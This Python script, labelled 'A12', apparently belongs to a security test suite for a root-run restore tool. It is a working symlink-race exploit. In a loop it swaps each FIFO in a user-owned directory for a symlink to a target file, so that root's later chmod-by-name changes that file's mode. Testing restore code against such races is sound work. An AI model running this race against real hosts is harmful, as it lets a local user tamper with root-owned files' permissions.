"""A12: a local user waits for FIFOs in a directory of theirs, and swaps a symlink in under the name of each.

Holds: an account on the host, and the directory. Wants: the mode of a file of root changed, by a restore of root that
makes a FIFO and then sets its mode by name.

Usage: a12_symlink_swap.py DIRECTORY FILE. Prints `ready`, swaps until it gets SIGTERM, then prints how often it did.
"""

from __future__ import annotations

import os
import signal
import stat
import sys


def swap_fifos(directory: str, link: str, file: str) -> int:
    """Replace every FIFO in a directory by a symlink to a file; return how many were."""
    swapped = 0
    for name in os.listdir(directory):
        path = os.path.join(directory, name)
        if stat.S_ISFIFO(os.lstat(path).st_mode):
            os.symlink(file, link)
            os.rename(link, path)
            swapped += 1
    return swapped


def main() -> None:
    """Swap until told to end."""
    directory, file = sys.argv[1:]
    ending: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _frame: ending.append(number))
    print("ready", flush=True)
    swapped = 0
    link = os.path.join(directory, "link-of-the-attacker")
    while not ending:
        try:
            swapped += swap_fifos(directory, link, file)
        except OSError:
            try:
                os.unlink(link)
            except OSError:
                continue
    print(swapped, flush=True)


if __name__ == "__main__":
    main()
